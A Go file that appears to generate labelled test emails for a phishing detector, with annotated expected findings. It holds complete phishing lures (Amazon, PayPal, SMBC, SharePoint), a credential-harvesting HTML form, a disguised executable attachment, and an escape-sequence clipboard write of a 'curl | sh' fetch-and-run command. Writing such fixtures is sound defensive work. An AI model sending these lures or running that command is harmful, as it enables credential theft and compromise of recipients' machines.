package build

import (
	"encoding/base64"
	"net/url"
	"strings"
	"time"
)

// --- 4 ---------------------------------------------------------------------

func amazonLookalike() message {
	t := at(time.October, 7, 22, 51, 3, jst)
	rcpt := "hanako.sato@example.com"
	from := "account-update@amazon-co-jp.com"
	seed := "amzn-4"
	h := hop{rp: "bounce@amazon-co-jp.com", rcpt: rcpt, helo: "mail.amazon-co-jp.com", rdns: "45.77.140.13.vultrusercontent.com", ip: "45.77.140.13", tls: true, t: t.Add(4 * time.Second)}
	link := "https://www.amazon-co-jp.com/ap/signin?openid.return_to=%2Fgp%2Fyour-account%2Fpayment&ref=" + hexid(seed, 16)
	subject := "Amazon.co.jp: お支払い方法の情報を更新してください"
	html := `<html><head><meta charset="utf-8"></head><body style="font-family:sans-serif">
<table width="600"><tr><td><img src="https://www.amazon-co-jp.com/images/logo.png" alt="amazon.co.jp"></td></tr>
<tr><td>
<p>Amazon.co.jp をご利用いただきありがとうございます。</p>
<p>お客様のアカウントに登録されているお支払い方法の有効期限が切れているため、
ご注文を処理できませんでした。アカウントは一時的に保留されています。</p>
<p>以下のボタンからお支払い情報を更新してください。<b>48時間以内</b>に更新が確認できない場合、
アカウントおよび未発送のご注文はキャンセルされます。</p>
<p><a href="` + link + `" style="background:#f0c14b;padding:8px 16px">お支払い情報を更新する</a></p>
<p>Amazon.co.jp カスタマーサービス</p>
</td></tr></table></body></html>
`
	return h.deliver(seed, Entry{subject, "phish",
		"Amazon brand from lookalike amazon-co-jp.com (hyphenated TLD of amazon.co.jp); link to the lookalike; SPF/DKIM/DMARC all pass for the lookalike (auth pass is not legitimacy); payment-update pressure with 48-hour deadline (ja); remote logo image"},
		hs(
			h.spf("pass"),
			"dkim=pass (1024-bit key) header.d=amazon-co-jp.com header.s=default header.b="+dkimB(seed),
			dmarc("pass", "none", "amazon-co-jp.com"),
		),
		hs(
			dkim("amazon-co-jp.com", "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", t, seed),
			"Date: "+date(t),
			"From: "+u8("Amazon.co.jp")+" <"+from+">",
			"To: "+rcpt,
			"Subject: "+u8(subject),
			"Message-ID: <"+hexid(seed+"/mid", 24)+"@amazon-co-jp.com>",
			mime10,
			"Content-Type: text/html; charset=UTF-8",
			"Content-Transfer-Encoding: base64",
		),
		b64([]byte(html)))
}

// --- 5 ---------------------------------------------------------------------

func amazonOrder() message {
	t := at(time.October, 8, 12, 4, 33, time.UTC)
	rcpt := "hanako.sato@example.com"
	seed := "amzn-5"
	rp := "2026100812043396f1c2d4e7a8b9-" + hexid(seed, 12) + "@bounces.amazon.co.jp"
	h := hop{rp: rp, rcpt: rcpt, helo: "a27-31.smtp-out.us-west-2.amazonses.com", rdns: "a27-31.smtp-out.us-west-2.amazonses.com", ip: "54.240.27.31", tls: true, t: t.Add(2 * time.Second)}
	order := "250-3918274-5512309"
	text := lines(
		"Amazon.co.jp ご注文の確認",
		"",
		"佐藤 花子 様",
		"",
		"Amazon.co.jp をご利用いただき、ありがとうございます。",
		"ご注文を承りました。商品の発送準備ができ次第、メールでお知らせします。",
		"",
		"注文番号: "+order,
		"お届け予定: 2026年10月10日(土)",
		"",
		"USB-C 充電ケーブル 2m  x 1   1,280円",
		"注文合計 (税込):              1,280円",
		"",
		"注文内容の確認・変更はこちら:",
		"https://www.amazon.co.jp/gp/css/order-details?orderID="+order,
		"",
		"このメールは配信専用アドレスから送信されています。",
		"Amazon.co.jp",
	)
	html := `<html><body>
<p>佐藤 花子 様</p>
<p>ご注文を承りました。商品の発送準備ができ次第、メールでお知らせします。</p>
<table><tr><td>注文番号</td><td><a href="https://www.amazon.co.jp/gp/css/order-details?orderID=` + order + `">` + order + `</a></td></tr>
<tr><td>お届け予定</td><td>2026年10月10日(土)</td></tr>
<tr><td>USB-C 充電ケーブル 2m</td><td>1,280円</td></tr></table>
<p><a href="https://www.amazon.co.jp/gp/your-account/order-history">注文履歴を表示</a></p>
</body></html>
`
	b := "----=_Part_" + hexid(seed+"/b", 16)
	return h.deliver(seed, Entry{"Amazon.co.jp ご注文の確認 " + order, "benign",
		"none expected: Amazon brand from its own amazon.co.jp with DKIM (amazon.co.jp + amazonses.com) and DMARC pass via SES; links only to www.amazon.co.jp; QP UTF-8 text + HTML"},
		hs(
			"spf=pass (mx.example.com: domain of "+rp+" designates 54.240.27.31 as permitted sender) smtp.mailfrom=bounces.amazon.co.jp",
			"dkim=pass (1024-bit key) header.d=amazon.co.jp header.s=rmfsyhxncfgqmnhh2qx6ut4qqwgy6ok4 header.b="+dkimB(seed),
			"dkim=pass (1024-bit key) header.d=amazonses.com header.s=7v7vs6w47njt4pimodk5mmttbegzsi6n header.b="+dkimB(seed+"ses"),
			dmarc("pass", "quarantine", "amazon.co.jp"),
		),
		hs(
			dkim("amazon.co.jp", "rmfsyhxncfgqmnhh2qx6ut4qqwgy6ok4", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", t, seed),
			dkim("amazonses.com", "7v7vs6w47njt4pimodk5mmttbegzsi6n", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID", t, seed+"ses"),
			"Date: "+date(t),
			"From: "+u8("Amazon.co.jp")+" <auto-confirm@amazon.co.jp>",
			"To: "+rcpt,
			"Message-ID: <0101019a"+hexid(seed+"/mid", 24)+"-000000@us-west-2.amazonses.com>",
			"Subject: "+u8("Amazon.co.jp ご注文の確認 "+order),
			mime10,
			`Content-Type: multipart/alternative; boundary="`+b+`"`,
			"Feedback-ID: 1.us-west-2.aTrQh1RzMqmGWoFcnD2j8x5ZbnEZq3ZOsmJTvh3fA4s=:AmazonSES",
		),
		multipart(b,
			part(qp(text), "Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable"),
			part(qp(html), "Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable"),
		))
}

// --- 6 ---------------------------------------------------------------------

func paypalDisplayName() message {
	t := at(time.October, 9, 3, 12, 45, time.UTC)
	rcpt := "j.miller@example.com"
	from := "x@mailer.example-bad.top"
	seed := "pp-6"
	h := hop{rp: "bounce-77120@mailer.example-bad.top", rcpt: rcpt, helo: "mailer.example-bad.top", rdns: "", ip: "167.99.77.10", t: t.Add(2 * time.Second)}
	html := `<html><body style="font-family:Helvetica,Arial,sans-serif">
<p><img src="https://mailer.example-bad.top/img/pp-logo.png" alt="PayPal" width="120"></p>
<p>Dear Customer,</p>
<p>We noticed unusual activity on your PayPal account and have temporarily <b>limited</b> what you can do with it.
To restore full access, please confirm your identity and billing information.</p>
<p>If we do not receive this information within 72 hours, your account will be permanently suspended.</p>
<p><a href="https://paypal-resolution.example-bad.top/limit/confirm.php?case=PP-004-318-927">https://www.paypal.com/signin</a></p>
<p>Sincerely,<br>PayPal Account Review Department</p>
<p style="font-size:10px;color:#999">Copyright &copy; 1999-2026 PayPal. All rights reserved.</p>
</body></html>
`
	return h.deliver(seed, Entry{"Your account has been limited - action required", "phish",
		"display-name spoof: display name contains an address (service@paypal.com) different from the real one on example-bad.top; PayPal brand from an unrelated domain; Reply-To to a freemail; anchor text https://www.paypal.com/signin but href on paypal-resolution.example-bad.top; no SPF/DKIM/DMARC; origin without reverse DNS; limitation/suspension pressure (en)"},
		hs(
			"spf=none (mx.example.com: mailer.example-bad.top does not designate permitted sender hosts) smtp.mailfrom=mailer.example-bad.top",
			dkimNone,
			dmarc("none", "none", "mailer.example-bad.top"),
		),
		hs(
			`From: "PayPal Service <service@paypal.com>" <`+from+`>`,
			"Reply-To: paypal.resolution.team@outlook.com",
			"To: "+rcpt,
			"Subject: Your account has been limited - action required",
			"Date: "+date(t),
			"Message-ID: <"+hexid(seed+"/mid", 20)+"@mailer.example-bad.top>",
			mime10,
			"Content-Type: text/html; charset=us-ascii",
			"Content-Transfer-Encoding: quoted-printable",
			"X-Priority: 1 (Highest)",
		),
		qp(html))
}

// --- 7 ---------------------------------------------------------------------

// safeLink wraps target the way Microsoft Defender Safe Links does.
func safeLink(target, mailbox, seed string) string {
	data := "05|02|" + mailbox + "|" + hexid(seed+"/d1", 32) + "|" + "72f988bf-86f1-41af-91ab-" + hexid(seed+"/tenant", 12) +
		"|0|0|638958421736402117|Unknown|TWFpbGZsb3d8eyJFbXB0eU1hcGkiOnRydWV9|0|||"
	return "https://nam12.safelinks.protection.outlook.com/?url=" + url.QueryEscape(target) +
		"&data=" + url.QueryEscape(data) +
		"&sdata=" + url.QueryEscape(fakeB64(seed+"/sdata", 43)+"=") + "&reserved=0"
}

func safeLinks() message {
	t := at(time.October, 12, 9, 47, 18, edt)
	rcpt := "finance@example.com"
	from := "d.brooks@brooksandpartners-cpa.com"
	seed := "safelinks-7"
	target := "http://brooks-partners-sharepoint.login-docs365.com/sites/remittance/login.html?u=finance%40example.com"
	wrapped := safeLink(target, from, seed)
	h := hop{rp: from, rcpt: rcpt, helo: "NAM12-DM6-obe.outbound.protection.outlook.com", rdns: "mail-dm6nam12on2091.outbound.protection.outlook.com", ip: "40.107.243.91", tls: true, t: t.Add(3 * time.Second)}
	html := `<html><body>
<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">
<p>Daniel Brooks shared a file with you</p>
<p><b>Q3 Remittance - Example Co.pdf</b><br>
Please review the attached remittance and confirm the payment schedule before Friday.</p>
<p><a href="` + strings.ReplaceAll(wrapped, "&", "&amp;") + `">Open</a></p>
<p>This link will work for anyone at example.com. Microsoft respects your privacy.</p>
<p>--<br>Daniel Brooks, CPA<br>Brooks &amp; Partners LLP</p>
</div></body></html>
`
	return h.deliver(seed, Entry{`Daniel Brooks shared "Q3 Remittance - Example Co.pdf" with you`, "phish",
		"Safe Links-wrapped URL (nam12.safelinks.protection.outlook.com) must be unwrapped to http://brooks-partners-sharepoint.login-docs365.com/...login.html with the recipient address; plain-http login page; SharePoint/Microsoft brand language from an unrelated domain; compromised sender: SPF/DKIM/DMARC pass through Exchange Online (auth pass, still phishing); role recipient finance@"},
		hs(
			h.spf("pass"),
			"dkim=pass (2048-bit key) header.d=brooksandpartners-cpa.com header.s=selector1 header.b="+dkimB(seed),
			dmarc("pass", "none", "brooksandpartners-cpa.com"),
			"arc=pass (i=1 spf=pass dkim=pass dmarc=pass)",
		),
		hs(
			"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n\tb="+fakeB64(seed+"/as", 72)+"\n\t "+fakeB64(seed+"/as2", 72),
			"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n\ts=arcselector10001; h=From:Date:Subject:Message-ID:Content-Type:MIME-Version;\n\tbh="+fakeB64(seed+"/amsbh", 43)+"=;\n\tb="+fakeB64(seed+"/ams", 72),
			"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n\tsmtp.mailfrom=brooksandpartners-cpa.com; dmarc=pass action=none\n\theader.from=brooksandpartners-cpa.com; dkim=pass\n\theader.d=brooksandpartners-cpa.com; arc=none",
			dkim("brooksandpartners-cpa.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", t, seed),
			"Received: from DM6PR12MB4297.namprd12.prod.outlook.com (2603:10b6:5:1ba::11)\n\tby DM6PR12MB4297.namprd12.prod.outlook.com (2603:10b6:5:1ba::11) with\n\tMicrosoft SMTP Server (version=TLS1_2,\n\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8746.21; "+date(t.Add(time.Second).UTC()),
			"Received: from DM6PR12MB4297.namprd12.prod.outlook.com\n\t([fe80::4c1d:9a2b:7e3f:1a0c]) by DM6PR12MB4297.namprd12.prod.outlook.com\n\t([fe80::4c1d:9a2b:7e3f:1a0c%7]) with mapi id 15.20.8746.21; "+date(t.UTC()),
			"From: Daniel Brooks <"+from+">",
			"To: Finance <"+rcpt+">",
			`Subject: Daniel Brooks shared "Q3 Remittance - Example Co.pdf" with you`,
			"Date: "+date(t),
			"Message-ID: <DM6PR12MB4297"+strings.ToUpper(hexid(seed, 12))+"@DM6PR12MB4297.namprd12.prod.outlook.com>",
			"Accept-Language: en-US",
			"Content-Language: en-US",
			"X-MS-Has-Attach:",
			"X-MS-Exchange-Organization-SCL: 1",
			mime10,
			"Content-Type: text/html; charset=utf-8",
			"Content-Transfer-Encoding: base64",
		),
		b64([]byte(html)))
}

// --- 8 ---------------------------------------------------------------------

func sjisMaintenance() message {
	t := at(time.October, 13, 15, 0, 12, jst)
	rcpt := "admin@example.com"
	seed := "sjis-8"
	from := "support@example.co.jp"
	h := hop{rp: "info-return@example.co.jp", rcpt: rcpt, helo: "smtp01.example.co.jp", rdns: "smtp01.example.co.jp", ip: "160.16.24.24", tls: true, t: t.Add(5 * time.Second)}
	subject := "【メンテナンス】11月8日(日) 深夜 サーバーメンテナンスのお知らせ"
	text := lines(
		"お客様各位",
		"",
		"いつもエグザンプル・ホスティングをご利用いただき、誠にありがとうございます。",
		"下記の日程でサーバー設備のメンテナンスを実施いたします。",
		"",
		"■ 日時",
		"　2026年11月8日(日) 午前2時00分 から 午前5時00分",
		"",
		"■ 影響",
		"　メンテナンス中、コントロールパネルへのログインができません。",
		"　メールの送受信およびウェブサイトの表示には影響ありません。",
		"",
		"■ 詳細",
		"　https://support.example.co.jp/maintenance/20261108",
		"",
		"お客様にはご不便をおかけしますが、ご理解とご協力をお願い申し上げます。",
		"本メールは送信専用です。ご返信いただいてもお答えできません。",
		"",
		"エグザンプル・ホスティング株式会社 サポートセンター",
	)
	return h.deliver(seed, Entry{subject, "benign",
		"none expected: Shift_JIS encoded-word subject and display name, raw 8-bit Shift_JIS body; aligned SPF/DKIM/DMARC pass; one link to the sender's own domain; role recipient admin@ but no pressure or credential request"},
		hs(
			h.spf("pass"),
			"dkim=pass (2048-bit key) header.d=example.co.jp header.s=s2026 header.b="+dkimB(seed),
			dmarc("pass", "quarantine", "example.co.jp"),
		),
		hs(
			dkim("example.co.jp", "s2026", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", t, seed),
			"Date: "+date(t),
			"From: "+ewSJIS("エグザンプル・ホスティング サポート")+" <"+from+">",
			"To: "+rcpt,
			"Subject: "+ewSJIS(subject),
			"Message-ID: <20261013150012."+hexid(seed, 10)+"@smtp01.example.co.jp>",
			mime10,
			"Content-Type: text/plain; charset=Shift_JIS",
			"Content-Transfer-Encoding: 8bit",
			"X-Mailer: Example Notice System 3.2",
		),
		sjis(text))
}

// --- 9 ---------------------------------------------------------------------

func htmlAttachment() message {
	t := at(time.October, 14, 10, 22, 9, cet)
	rcpt := "finance@example.com"
	from := "ap@kestrel-supply.com"
	seed := "htmlatt-9"
	h := hop{rp: from, rcpt: rcpt, helo: "kestrel-supply.com", rdns: "ip113.ip-51-68-41.eu", ip: "51.68.41.113", t: t.Add(6 * time.Second)}
	att := `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Microsoft Excel Online - Secure Document</title></head>
<body style="background:#f3f2f1;font-family:Segoe UI,Arial">
<div style="width:360px;margin:80px auto;background:#fff;padding:32px">
<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg" width="108">
<h3>Sign in to view INV-2026-10488.xlsx</h3>
<form method="POST" action="https://kestrel-invoices.web-docs-secure.top/auth/next.php">
<input type="hidden" name="src" value="invoice">
<input type="email" name="login" value="finance@example.com"><br>
<input type="password" name="passwd" placeholder="Password"><br>
<button type="submit">Sign in</button>
</form>
<p style="font-size:11px">Because you're accessing sensitive info, you need to verify your password.</p>
</div>
<script>document.title = atob("TWljcm9zb2Z0IEV4Y2Vs");</script>
</body></html>
`
	b := "=_mixed_" + hexid(seed, 12)
	return h.deliver(seed, Entry{"Remittance advice / Invoice INV-2026-10488", "phish",
		"HTML attachment invoice.html with a password form posting to kestrel-invoices.web-docs-secure.top, prefilled recipient address, Microsoft brand in a page from an unrelated host; SPF pass but no DKIM/DMARC; role recipient finance@; payment pretext"},
		hs(h.spf("pass"), dkimNone, dmarc("none", "none", "kestrel-supply.com")),
		basic("Kestrel Supply Accounts <"+from+">", rcpt, "Remittance advice / Invoice INV-2026-10488", date(t), "<"+hexid(seed+"/mid", 32)+"@kestrel-supply.com>",
			`Content-Type: multipart/mixed; boundary="`+b+`"`),
		multipart(b,
			asciiPart(lines(
				"Hello,",
				"",
				"Please find attached the remittance advice for invoice INV-2026-10488.",
				"The document is protected; sign in with your company email to open it.",
				"",
				"Kind regards,",
				"Accounts Payable",
				"Kestrel Supply GmbH",
			)),
			part(b64([]byte(att)), `Content-Type: text/html; name="invoice.html"`, `Content-Disposition: attachment; filename="invoice.html"`, "Content-Transfer-Encoding: base64"),
		))
}

// --- 10 --------------------------------------------------------------------

func passwordReset() message {
	t := at(time.October, 15, 8, 31, 4, time.UTC)
	rcpt := "ken.ito@example.com"
	from := "account-security-noreply@accountprotection.microsoft.com"
	seed := "msreset-10"
	h := hop{rp: from, rcpt: rcpt, helo: "NAM11-BN8-obe.outbound.protection.outlook.com", rdns: "mail-bn8nam11on2071.outbound.protection.outlook.com", ip: "40.107.236.71", tls: true, t: t.Add(2 * time.Second)}
	text := lines(
		"Microsoft account",
		"",
		"Password reset code",
		"",
		"Please use this code to reset the password for the Microsoft account ke*****@example.com.",
		"",
		"Here is your code: 482913",
		"",
		"If you don't recognize the Microsoft account ke*****@example.com, you can",
		"click https://account.live.com/dp?ft=-DqL4nbGdGaPLZ8&mn=ke*****%40example.com",
		"to remove your email address from that account.",
		"",
		"Thanks,",
		"The Microsoft account team",
	)
	return h.deliver(seed, Entry{"Microsoft account password reset", "benign",
		"none expected (password reset the user requested): Microsoft brand from accountprotection.microsoft.com with aligned DKIM/DMARC pass from Exchange Online; contains password/code wording, which must not alone make it phishing; link to account.live.com"},
		hs(
			h.spf("pass"),
			"dkim=pass (2048-bit key) header.d=accountprotection.microsoft.com header.s=selector1 header.b="+dkimB(seed),
			dmarc("pass", "reject", "accountprotection.microsoft.com"),
		),
		cat(hs(dkim("accountprotection.microsoft.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version", t, seed), "Received: from BN8PR15MB2867.namprd15.prod.outlook.com (2603:10b6:408:c7::22)\n\tby BN8NAM11FT021.mail.protection.outlook.com (2603:10b6:408:c7:cafe::4) with\n\tMicrosoft SMTP Server (version=TLS1_2,\n\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8746.21; "+date(t.Add(time.Second))),
			basic("Microsoft account team <"+from+">", rcpt, "Microsoft account password reset", date(t), "<"+strings.ToUpper(hexid(seed, 8))+".6F1E2D@BN8PR15MB2867.namprd15.prod.outlook.com>",
				"Content-Type: text/plain; charset=utf-8",
				"Content-Transfer-Encoding: 7bit")),
		text)
}

// --- 11 --------------------------------------------------------------------

func rloAttachment() message {
	t := at(time.October, 16, 7, 55, 40, cet)
	rcpt := "j.miller@example.com"
	from := "scan@officeprint-services.com"
	seed := "rlo-11"
	h := hop{rp: from, rcpt: rcpt, helo: "WIN-7Q2K9F3L1MA", rdns: "", ip: "78.46.133.7", t: t.Add(4 * time.Second)}
	b := "----=_NextPart_000_0012_" + strings.ToUpper(hexid(seed, 8))
	return h.deliver(seed, Entry{"Scanned invoice 16/10/2026", "malware",
		"attachment name via RFC 2231 with U+202E RIGHT-TO-LEFT OVERRIDE (invoice_\u202efdp.exe shows as invoice_exe.pdf); declared application/pdf but content is a Windows executable (MZ); HELO is a bare Windows host name, no reverse DNS; SPF softfail"},
		hs(h.spf("softfail"), dkimNone, dmarc("fail", "none", "officeprint-services.com")),
		basic("Office Scanner <"+from+">", rcpt, "Scanned invoice 16/10/2026", date(t), "<000001dc3e1a$"+hexid(seed+"/a", 8)+"$"+hexid(seed+"/b", 8)+"@officeprint-services.com>",
			`Content-Type: multipart/mixed; boundary="`+b+`"`,
			"X-Mailer: Microsoft Outlook 16.0"),
		multipart(b,
			asciiPart(lines("Please find the scanned invoice attached.", "", "Sent from the office multifunction printer.")),
			part(b64(exeStub()),
				"Content-Type: application/pdf",
				"Content-Disposition: attachment;\n filename*=UTF-8''invoice_%E2%80%AEfdp.exe",
				"Content-Transfer-Encoding: base64"),
		))
}

// --- 12 --------------------------------------------------------------------

func terminalEscapes() message {
	t := at(time.October, 19, 11, 3, 27, time.UTC)
	rcpt := "support@example.com"
	from := "helpdesk@it-servicedesk-portal.top"
	seed := "esc-12"
	h := hop{rp: from, rcpt: rcpt, helo: "it-servicedesk-portal.top", rdns: "", ip: "45.32.9.201", t: t.Add(3 * time.Second)}
	clip := base64.StdEncoding.EncodeToString([]byte("curl -s http://203.0.113.9/p | sh\n"))
	const esc = "\x1b"
	// Raw 8-bit UTF-8 subject carrying escapes, bidi controls and a zero-width space.
	subject := "Mailbox notice" + esc + "[2J" + esc + "]52;c;" + clip + "\x07" + esc + "]0;triage: all clear\x07" +
		" \u202etxt.exe\u202c \u2066quota\u2069 exceed\u200bed"
	display := "IT\u200b Service\u200d Desk \u2066" + esc + "[31mURGENT" + esc + "[0m\u2069"
	body := lines(
		"Your mailbox has exceeded its storage quota."+esc+"[8m hidden text for the terminal "+esc+"[0m",
		"",
		"Log in to the web portal to release held messages:",
		esc+"]8;;http://203.0.113.9/owa/auth.php?u=support@example.com"+esc+"\\https://outlook.office.com/owa/"+esc+"]8;;"+esc+"\\",
		"",
		"Reference: \u202eCOD-1234\u202c / \u2067\u2066ticket\u2069\u2069 "+esc+"[1A"+esc+"[2K(this line overwrites the one above)",
		"",
		"IT Service Desk",
	)
	return h.deliver(seed, Entry{"Mailbox notice <ESC[2J><OSC 52 clipboard write><OSC 0 title> <RLO>txt.exe <LRI>quota<PDI> exceed<ZWSP>ed", "phish",
		"terminal escape sequences in raw 8-bit Subject (ESC[2J clear screen, OSC 52 clipboard write of a curl|sh command, OSC 0 window title), bidi controls U+202E/U+2066/U+2069 and U+200B zero-width space in subject; encoded-word display name with ZWSP/ZWJ, U+2066 and SGR color; body with OSC 8 hyperlink (text outlook.office.com, target IP-literal http://203.0.113.9), hidden SGR 8 text, cursor-up/erase-line; IP-literal link with recipient address; no auth"},
		hs(h.spf("neutral"), dkimNone, dmarc("none", "none", "it-servicedesk-portal.top")),
		basic(u8(display)+" <"+from+">", rcpt, subject, date(t), "<"+hexid(seed+"/mid", 16)+"@it-servicedesk-portal.top>",
			"Content-Type: text/plain; charset=utf-8",
			"Content-Transfer-Encoding: 8bit"),
		body)
}

// --- 13 --------------------------------------------------------------------

func smbcCard() message {
	t := at(time.October, 20, 6, 17, 2, jst)
	rcpt := "hanako.sato@example.com"
	from := "vpass-info@smbc-card-jp.com"
	seed := "smbc-13"
	h := hop{rp: "vpass@smbc-card-jp.com", rcpt: rcpt, helo: "mail.smbc-card-jp.com", rdns: "", ip: "47.74.168.20", t: t.Add(4 * time.Second)}
	subject := "【三井住友カード】ご利用確認のお願い（24時間以内にご対応ください）"
	text := lines(
		"三井住友カードをご利用いただき、ありがとうございます。",
		"",
		"お客様のカードにて、第三者による不正利用の可能性がある取引を検知しました。",
		"お客様の安全のため、現在カードのご利用を一時的に制限しております。",
		"",
		"24時間以内に下記URLよりご本人様確認を行ってください。",
		"期限までにご確認いただけない場合、カードのご利用を停止させていただきます。",
		"",
		"■ ご本人様確認はこちら",
		"https://vpass.smbc-card.com.secure-jp.cn/login/?id="+hexid(seed, 20),
		"",
		"確認には Vpass ID、パスワード、カード番号、有効期限、セキュリティコードが必要です。",
		"",
		"三井住友カード株式会社",
	)
	return h.deliver(seed, Entry{subject, "phish",
		"ISO-2022-JP encoded-word subject/display name and 7bit ISO-2022-JP body; 三井住友カード brand from lookalike smbc-card-jp.com; link host vpass.smbc-card.com.secure-jp.cn (brand domain as a subdomain of another registrable domain); 24時間以内 deadline and card-suspension pressure; asks for password, card number, security code (ja credential lexicon); no SPF/DKIM/DMARC"},
		hs(h.spf("none"), dkimNone, dmarc("none", "none", "smbc-card-jp.com")),
		basic(ewJIS("三井住友カード")+" <"+from+">", rcpt, ewJIS(subject), date(t), "<"+hexid(seed+"/mid", 26)+"@smbc-card-jp.com>",
			"Content-Type: text/plain; charset=ISO-2022-JP",
			"Content-Transfer-Encoding: 7bit",
			"X-Mailer: Foxmail 7.2.25.228[cn]"),
		jis(text))
}
